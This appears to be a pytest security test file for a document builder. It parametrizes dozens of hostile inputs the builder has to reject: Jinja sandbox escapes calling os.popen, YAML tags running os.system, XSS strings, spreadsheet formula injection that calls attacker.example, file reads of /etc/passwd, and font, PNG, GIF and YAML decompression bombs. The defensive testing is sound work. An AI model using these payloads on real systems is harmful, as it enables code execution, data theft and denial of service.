"""Ways in that are neither paths nor bombs in Markdown: templates, fonts, editions, workbooks."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import pytest

from builder.theme.paths import shipped_templates
from tests.attacks.arena import BASE, HEAD, SECRET, Attack, Files, section, settings
from tests.attacks.judge import cases, judge

HOST = "attacker.example"
TRUST = ("--trust",)
REPORT = "house/report.html.j2"
CHART = "::: {.chart data=x.csv}\nT\n:::\n\nText.\n"


def house(files: Files, brand: str = "color: {primary: '#123456'}\n") -> Files:
    """A project with a theme of its own."""
    return {**settings("theme: house\n"), "house/_brand.yml": brand, **files}


def template(text: str) -> Files:
    """A project whose theme brings its own page."""
    return house({REPORT: f"<html><body>{text}{{{{ content }}}}</body></html>"})


def woff(size: int) -> bytes:
    """A font whose glyphs are a bomb: one table of zeros, packed."""
    data = zlib.compress(bytes(size), 9)
    tables = b"glyf" + struct.pack(">LLLL", 64, len(data), size, 0)
    head = b"wOFF" + struct.pack(
        ">LLHHLHHLLLLL", 0x00010000, 64 + len(data), 1, 0, 12 + 16 + size, 1, 0, 0, 0, 0, 0, 0
    )
    return (head + tables).ljust(64, b"\0") + data


def font(data: bytes, name: str) -> Files:
    """A project whose theme brings a typeface."""
    brand = f"typography: {{fonts: [{{family: X, source: file, files: [{name}]}}], base: X}}\n"
    return house({f"house/{name}": data}, brand)


def named(family: str) -> Files:
    """A project whose theme brings a sound font file under a name of the stranger's choice."""
    from fontTools.ttLib import TTFont

    from tests.support.paper import strand

    made, held = TTFont(strand().sans.face(400).path), io.BytesIO()
    for number in (1, 16):
        made["name"].setName(family, number, 3, 1, 0x409)
    made.save(held)
    return font(held.getvalue(), "x.ttf")


def replaced(name: str) -> Files:
    """A project whose theme names typefaces for readers who lack one."""
    source = f"family: Source Serif Pro, package: font_source_serif_pro, substitutes: [{name}]"
    return house({}, f"defaults: {{briefing: {{fonts: [{{{source}}}]}}}}\n")


def slot(name: str) -> Files:
    """A project whose theme brings layouts with a slot of the stranger's naming."""
    layouts = (shipped_templates() / "strand" / "layouts.yml").read_text("utf-8")
    mark = "      contact: {type: body"
    more = f"      '{name}': {{type: body, at: [1, 1, 1, 1], text: dark}}\n"
    return house({"house/layouts.yml": layouts.replace(mark, more + mark, 1)})


def profile(size: int) -> Files:
    """A picture with a colour profile that unpacks without end."""
    from tests.attacks.test_bombs import chunk, picture, png

    return picture("x.png", png(9, 9, chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(size), 9))))


def gif(width: int, height: int) -> bytes:
    """A GIF that says it is large, and holds next to nothing."""
    head = b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0\0\0\0\xff\xff\xff"
    return head + b"," + struct.pack("<HHHH", 0, 0, width, height) + b"\0\x02\x02L\x01\0;"


def matrix(axes: int, values: int) -> Files:
    lines = "".join(
        f"  a{axis}: {{{', '.join(f'v{axis}x{n}: {{variables: {{v{axis}: {n}}}}}' for n in range(values))}}}\n"
        for axis in range(axes)
    )
    return settings(f"matrix:\n{lines}")


def workbook_words(text: str) -> Files:
    """A chart whose names of columns and categories are what a spreadsheet would run."""
    return {**section(CHART), "data/x.csv": f"Year,{text}\n{text},1\nB,2\n"}


ATTACKS = [
    Attack("template of the project", template("a"), "template-untrusted", to="pdf"),
    Attack("style sheet of the project", house({"house/report.css.j2": f"@import url(http://{HOST}/x.css);"}), "template-untrusted", to="pdf"),
    Attack("trusted template that asks for Python's inside", template("{{ ''.__class__.__mro__[1].__subclasses__() }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that asks by another way", template("{{ cycler.__init__.__globals__.os.popen('id').read() }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that asks by a filter", template("{{ ''|attr('__class__') }}{{ lipsum.__globals__ }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that includes a file outside", template("{% include '../../outside/secret.txt' %}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that includes a whole path", template("{% include '/etc/passwd' %}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that repeats without end", template("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"), "limit-reached", to="pdf", options=TRUST, dear=True),
    Attack("trusted template that makes much", template("{{ 'x' * 10**9 }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that fills much", template("{{ '%2000000000d' % 1 }}{{ '%2000000000d' % 1 }}{{ '%2000000000d' % 1 }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template with a width by an argument", template("{{ '%*d' % (2000000000, 1) }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template with a width of format", template("{{ '{:2000000000}'.format(1) }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template with a width in a width", template("{{ '{:{}}'.format(1, 2000000000) }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that centres in much", template("{{ 'x'.center(2000000000) }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that fills much by filters", template("{{ 'x' | center(2000000000) }}{{ [1] | batch(2000000000, 'x') | list | length }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that replaces letters by pages", template("{% set a = 'x' * 1000000 %}{{ a.replace('x', a) | length }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template of 6 MB", lambda: template("x" * 6_000_000), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that divides by nothing", template("{{ 1 / 0 }}"), "template-error", to="pdf", options=TRUST),
    Attack("trusted template that calls itself", house({REPORT: "{% include 'report.html.j2' %}"}), "template-error limit-reached", to="pdf", options=TRUST),
    Attack("trusted template that fetches", template(f'<img src="http://{HOST}/x.png"><link rel="stylesheet" href="http://{HOST}/x.css">'), "file-missing image-missing layout-warning path-outside template-error text-lost", to="pdf", options=TRUST),
    Attack("trusted template that reads", template('<img src="file:///etc/passwd"><link rel="attachment" href="file:///etc/passwd">'), "file-missing image-missing layout-warning path-outside template-error text-lost", to="pdf", options=TRUST),
    Attack("typeface that ends the page's style", replaced('"</style><script>alert(1)</script>"'), "value-invalid", to="html", hides=("<script>alert(1)",)),
    Attack("typeface that ends its rule", replaced("'x;} body {display: none'"), "value-invalid", to="html", hides=("display: none'",)),
    Attack("typeface of two lines", replaced('"x\\ny"'), "value-invalid", to="html"),
    Attack("typeface with marks in its name", replaced("\"x\\\"'&\\\\y\""), "", to="html,pdf"),
    Attack("font file whose name is a program", lambda: named("</style><script>alert(1)</script>"), "file-missing", to="html", hides=("<script>alert(1)",)),
    Attack("font file whose name has two lines", lambda: named("a\nb"), "file-missing", to="html"),
    Attack("letters without end between letters", house({}, "defaults: {briefing: {type: {body: {tracking: inf}}}}\n"), "value-invalid", to="pdf"),
    Attack("columns without a width", house({}, "defaults: {briefing: {grid: {side: 0, gutter: 0, main: 0}}}\n"), "value-invalid", to="pdf"),
    Attack("page as high as the sky", house({}, "defaults: {briefing: {type: {h2: {before: 9999999999999mm}}}}\n"), "value-invalid", to="pdf,docx"),
    Attack("slot of a layout whose name is XML", lambda: slot("</a:t></a:r><a:r><a:t>x"), "", to="pptx", hides=("</a:t></a:r><a:r><a:t>x",)),
    Attack("brand file of objects", house({}, "color: !!python/object/apply:os.system ['id']\n"), "yaml-syntax"),
    Attack("font that is a bomb", lambda: font(woff(1_000_000_000), "x.woff"), "file-missing", dear=True),
    Attack("font that is none", font(b"\0\1\0\0" + b"\xff" * 400, "x.ttf"), "file-missing"),
    Attack("collection of 200 million fonts", font(b"", "x.ttf"), "file-missing", prepare=lambda project, outside: large(project / "house" / "x.ttf")),
    Attack("profile that is a bomb", lambda: profile(800_000_000), "", to="pdf,docx", dear=True),
    Attack("GIF of 4,000 million pixels", {**section("![A curve](images/x.gif)\n"), "images/x.gif": gif(65_535, 65_535)}, "image-unreadable"),
    Attack("picture that is a program", {**section("![A curve](images/x.png)\n"), "images/x.png": b"%!PS\n(/etc/passwd) (r) file\n"}, "image-unreadable"),
    Attack("picture that is a web page", {**section("![A curve](images/x.svg)\n"), "images/x.svg": "<html><body><script>alert(1)</script></body></html>"}, "image-unreadable"),
    Attack("section by an include", section("{{< include ../outside/secret.md >}}\n"), "shortcode-unknown variable-undefined bracket-unclosed"),
    Attack("front matter that names files", {"sections/01-one.md": "---\ntitle: One\ninclude: ../outside/secret.md\nbibliography: ../outside/secret.yml\n---\n\nText.\n"}, "key-unknown"),
    Attack("front matter that makes objects", {"sections/01-one.md": "---\ntitle: !!python/name:os.system\n---\n\nText.\n"}, "yaml-syntax"),
    Attack("front matter that laughs", lambda: {"sections/01-one.md": "---\ntitle: One\n" + "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 40)) + "---\n\nText.\n"}, "yaml-syntax key-unknown"),
    Attack("a hundred million editions", matrix(8, 10), "edition-invalid"),
    Attack("edition with a path for a name", settings("editions:\n  '../../outside/x': {language: de}\n"), "edition-invalid value-invalid key-unknown"),
    Attack("variable that swells", lambda: {**settings(f"variables: {{a: '{'x ' * 50_000}'}}\n"), **section("{{< var a >}} " * 3000 + "\n")}, "limit-reached", dear=True),
    Attack("2,000 files of 5 MB that nobody asks for", {}, "", to="pptx", prepare=lambda project, outside: many(project / "notes", 2_000), options=()),
    Attack("60,000 files that nobody asks for", lambda: {f"notes/d{n % 100}/f{n}.txt": b"" for n in range(60_000)}, "", to="pptx", dear=True),
    Attack("name of the outputs with dots", {"briefing.yml": 'title: T\nname: ../outside/x\nsections: ["sections/*.md"]\n'}, "key-unknown value-invalid"),
    Attack("workbook that calls a program", workbook_words("=cmd|' /C calc'!A0"), "", to="docx,pptx", hides=("<f>", "<f ")),
    Attack("workbook that asks the web", workbook_words(f"=WEBSERVICE(\"http://{HOST}/\")".replace('"', "'")), "", to="docx,pptx", hides=("<f>", "<f ")),
    Attack("workbook with a link", workbook_words(f"http://{HOST}/x"), "", to="docx,pptx", hides=("<hyperlink", "relationships/hyperlink")),
    Attack("HTML that is a form", section("<form action='http://attacker.example'><input name=a></form>\n"), "", to="pdf,html", shows=("<form",)),
    Attack("HTML in the page for the web", section("a <script>alert(1)</script> <img src=x onerror=alert(1)> b\n\n[c](javascript:alert(1))\n"), "", to="html", hides=("<script>alert(1)", "<img src=x", 'href="javascript:')),
    Attack("HTML in a title on the web", {**settings("subtitle: '</title><script>alert(1)</script>'\n"), **section("x\n")}, "", to="html", hides=("<script>alert(1)",)),
    Attack("data that ends a program on the web", {**section(CHART), "data/x.csv": "Year,</script><script>alert(1)</script>\n2007,1\n2008,2\n"}, "", to="html", hides=("<script>alert(1)",)),
    Attack("CSV that is a web page in a table", section("|a|b|\n|-|-|\n|<script>alert(1)</script>|=1+1|\n"), "", to="html", hides=("<script>alert(1)",)),
]  # fmt: skip


def many(folder: Path, count: int) -> None:
    """Make files of 5 MB each that take no room."""
    folder.mkdir()
    for number in range(count):
        with (folder / f"{number}.md").open("wb") as file:
            file.truncate(5_000_000)


def large(path: Path) -> None:
    """Make a collection of fonts that has 1 GB and takes no room."""
    with path.open("wb") as file:
        file.write(b"ttcf\0\2\0\0" + struct.pack(">L", 200_000_000))
        file.truncate(1_000_000_000)


@pytest.mark.parametrize("attack", cases(ATTACKS, 6), ids=str)
def test_no_other_way_leads_in(attack: Attack, tmp_path: Path) -> None:
    judge(attack, tmp_path)


def test_the_hostile_font_is_a_font_by_its_head() -> None:
    assert woff(10_000)[:4] == b"wOFF"
    assert gif(9, 9).startswith(b"GIF89a") and io.BytesIO(gif(9, 9))
    assert SECRET not in str(BASE) + HEAD
